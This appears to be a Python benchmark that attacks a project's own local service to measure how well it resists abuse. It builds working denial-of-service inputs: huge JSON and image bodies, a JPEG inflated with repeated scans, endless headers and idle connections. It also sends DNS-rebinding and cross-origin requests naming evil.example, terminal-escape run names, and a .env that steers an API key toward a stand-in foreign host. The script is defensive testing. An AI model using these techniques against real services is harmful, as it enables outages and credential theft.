"""Attacks with large, slow and costly requests, and of strangers who want to be let in.

Of each, the slowest quick answers meanwhile and the memory gained; of strangers, how many requests got through.

With `BEFORE=folder`, the name of another checkout, each attack also runs against that version in the same run, and the
table has both figures: before → now. Each attack ends by itself. It comes from a process and an address of its own, so
that neither this process nor the limit on an address's connections slows down the measured requests.
"""

import io
import json
import multiprocessing
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass
from http.client import HTTPConnection
from pathlib import Path
from subprocess import DEVNULL
from tempfile import TemporaryDirectory

import httpx
import psutil
from PIL import Image

from bench.service import ended, home, started

HERE = Path(__file__).parent.parent
MOST_SECONDS = 30.0  # of one attack
ATTACKER = "127.0.0.2"
TRIES = 60  # of a stranger
PAUSE = 0.02  # between two quick requests
WANTED_MS = 500
RUN = {"dataset": "digits", "stop": {"max_steps": 20}}


@dataclass(frozen=True)
class Target:
    """A service under attack: its port, a finished run, its process id, and the folder of its version."""

    port: int
    run: str
    pid: int
    checkout: Path

    def connect(self, seconds: float = MOST_SECONDS) -> socket.socket:
        """A connection of the attacker."""
        return socket.create_connection(("127.0.0.1", self.port), seconds, source_address=(ATTACKER, 0))

    def send(self, head: str, body: bytes = b"") -> socket.socket:
        """Open a connection and send a request; the answer is left unread."""
        connection = self.connect()
        with suppress(OSError):  # the service may refuse in the middle
            connection.sendall(
                f"{head} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
            )
        return connection

    def post(self, path: str, body: bytes, kind: str) -> None:
        """Send a request and read its answer, whatever it is."""
        with suppress(httpx.HTTPError), self.client() as client:
            client.post(path, content=body, headers={"Content-Type": kind})

    def client(self) -> httpx.Client:
        """A client of the attacker."""
        transport = httpx.HTTPTransport(local_address=ATTACKER)
        return httpx.Client(base_url=f"http://127.0.0.1:{self.port}", transport=transport, timeout=MOST_SECONDS)


def many_errors(target: Target) -> None:
    body = json.dumps({"dataset": "digits"} | {f"unknown{number}": 1 for number in range(90_000)}).encode()
    target.post("/runs", body, "application/json")


def costly_picture(target: Target) -> None:
    file = io.BytesIO()
    Image.new("L", (1000, 1000), 90).save(file, "JPEG", progressive=True)
    whole = file.getvalue()
    scan = whole[whole.rindex(b"\xff\xda") : -2]
    picture = whole[:-2] + scan * 1000 + whole[-2:]
    path = f"/predict?run={target.run}&fit=true"
    with ThreadPoolExecutor(4) as senders:
        list(senders.map(lambda _: target.post(path, picture, "image/jpeg"), range(4)))


def endless_headers(target: Target) -> None:
    with target.connect() as connection, suppress(OSError):
        connection.sendall(b"GET /runs HTTP/1.1\r\nHost: localhost\r\n")
        for _ in range(4000):  # 256 MB
            connection.sendall(b"X-Line: " + b"x" * 65_000 + b"\r\n")


def silent_connections(target: Target) -> None:
    with ExitStack() as held:
        for _ in range(900):  # this process may open about a thousand files
            with suppress(OSError):
                held.enter_context(target.connect(seconds=1))
        time.sleep(2)


def unread_exports(target: Target) -> None:
    with ExitStack() as held:
        for _ in range(150):
            held.enter_context(target.send("GET /datasets/notmnist/export.npz"))
        time.sleep(10)


def large_bodies(target: Target) -> None:
    body = bytes(60 * 2**20)
    path = f"/predict?run={target.run}"
    with ThreadPoolExecutor(12) as senders:
        list(senders.map(lambda _: target.post(path, body, "image/png"), range(12)))


def another_name(target: Target) -> int:
    """Requests of a page whose host name points to this machine (DNS rebinding). Returns how many are answered."""
    with target.client() as client:
        answers = [client.get("/runs", headers={"Host": f"evil.example:{target.port}"}) for _ in range(TRIES)]
    return sum(answer.is_success for answer in answers)


def another_page(target: Target) -> int:
    """Changes that a page of another origin may send without asking. Returns how many are taken."""
    headers = {"Host": f"localhost:{target.port}", "Origin": "http://evil.example", "Content-Type": "text/plain"}
    table = b"x,y\n1,2\n2,3\n"
    changes = (
        ("/datasets?name=a&target=y", table),
        ("/runs/cancel?status=queued", b""),
        (f"/runs/{target.run}/again", b""),
    )
    with target.client() as client:
        answers = [client.post(path, content=body, headers=headers) for path, body in changes * (TRIES // len(changes))]
    return sum(answer.is_success for answer in answers)


def names_for_a_terminal(target: Target) -> int:
    """Runs whose names would clear a terminal or turn its text around. Returns how many are taken."""
    names = ("a\x1b[2J", "a\x1b]0;b\x07", "a\u202eb", "a\nb")
    with target.client() as client:
        answers = [client.post("/runs", json=RUN | {"name": names[count % 4]}) for count in range(TRIES)]
    return sum(answer.is_success for answer in answers)


def another_address(target: Target) -> int:
    """A folder whose `.env` names a foreign address, and a key in the environment. Returns how often the key gets
    there."""
    keys, key = [], "a-key-of-a-bench"
    with socket.create_server(("127.0.0.1", 0)) as proxy, TemporaryDirectory() as folder:
        Path(folder, ".env").write_text("ANTIGRAD_URL=http://evil.example:8000\n")
        address = f"http://127.0.0.1:{proxy.getsockname()[1]}"  # the way out of this machine
        variables = os.environ | {"PYTHONPATH": str(target.checkout), "ANTIGRAD_API_KEY": key, "HTTP_PROXY": address}
        command = [sys.executable, "-m", cli_of(target.checkout), "runs"]
        with subprocess.Popen(command, cwd=folder, env=variables, stdout=DEVNULL, stderr=DEVNULL) as asking:
            proxy.settimeout(0.1)
            while asking.poll() is None:
                with suppress(TimeoutError):
                    connection, _ = proxy.accept()
                    with connection:
                        keys.append(connection.recv(2**16))
    return sum(key.encode() in sent for sent in keys)


ATTACKS: dict[str, Callable[[Target], int | None]] = {
    "a body with 90,000 unknown fields": many_errors,
    "4 JPEGs of 1,000 scans": costly_picture,
    "headers without an end": endless_headers,
    "900 silent connections": silent_connections,
    "150 unread exports": unread_exports,
    "12 bodies of 60 MB": large_bodies,
    f"{TRIES} requests under another name": another_name,
    f"{TRIES} changes by another page": another_page,
    f"{TRIES} names for a terminal": names_for_a_terminal,
    "a foreign address in .env": another_address,
}


def cli_of(checkout: Path) -> str:
    """The module of a checkout's command line."""
    return "app.cli.main" if (checkout / "app/cli").is_dir() else "app.cli"  # as older ones have it


@contextmanager
def service(checkout: Path) -> Iterator[Target]:
    """The service of a checkout, with one finished run."""
    command = ["-m", cli_of(checkout), "serve", "--port", "{port}"]
    silent = {"stdout": DEVNULL, "stderr": DEVNULL}
    with (
        home(),
        started(command, cwd=checkout, env=os.environ | {"PYTHONPATH": str(checkout)}, **silent) as (client, process),
    ):
        run = client.post("/runs", json=RUN).raise_for_status().json()["id"]
        ended(client, run)
        assert client.base_url.port is not None
        yield Target(client.base_url.port, run, process.pid, checkout)


def measured(target: Target, attack: Callable[[Target], int | None]) -> list[float]:
    """Slowest `/healthz` and `/runs/{id}` during an attack, in ms, the memory gained, in MB, and the number of requests
    that got through, if the attack counts them.

    An answer that does not come counts as the whole time.
    """
    over, slowest, process = threading.Event(), [0.0, 0.0], psutil.Process(target.pid)
    memory = [process.memory_info().rss]

    def ask(place: int, path: str) -> None:
        while not over.is_set():
            begun = time.perf_counter()
            is_answered = answered(target.port, path)
            took = time.perf_counter() - begun if is_answered else MOST_SECONDS
            slowest[place] = max(slowest[place], 1000 * took)
            memory.append(process.memory_info().rss)
            over.wait(PAUSE)

    askers = [threading.Thread(target=ask, args=each) for each in enumerate(("/healthz", f"/runs/{target.run}"))]
    with ProcessPoolExecutor(1, multiprocessing.get_context("fork")) as attacker:
        attacking = attacker.submit(attack, target)
        for asker in askers:
            asker.start()
        through = attacking.result()
    over.set()
    for asker in askers:
        asker.join()
    return [*slowest, (max(memory) - memory[0]) / 2**20, *([] if through is None else [through])]


def answered(port: int, path: str) -> bool:
    """True if a GET on a new connection is answered with 200."""
    connection = HTTPConnection("127.0.0.1", port, timeout=MOST_SECONDS)
    try:
        connection.request("GET", path)
        answer = connection.getresponse()
        answer.read()
        return answer.status == 200
    except OSError:
        return False
    finally:
        connection.close()


def main() -> None:
    versions = [Path(before).resolve() for before in [os.environ.pop("BEFORE", "")] if before] + [HERE]
    titles = ("/healthz, ms", "/runs/{id}, ms", "memory, MB", "got through")
    print(" " * 36 + "".join(f"{title:>18}" for title in titles), flush=True)
    for name, attack in ATTACKS.items():
        figures = []
        for checkout in versions:
            with service(checkout) as target:
                figures.append(measured(target, attack))
        columns = [" → ".join(f"{value:.0f}" for value in each) for each in zip(*figures, strict=True)]
        wrong = [f"  over {WANTED_MS} ms"] if max(figures[-1][:2]) > WANTED_MS else []
        wrong += ["  got through"] if any(figures[-1][3:]) else []
        print(f"{name:<36}" + "".join(f"{column:>18}" for column in columns), *wrong, flush=True)
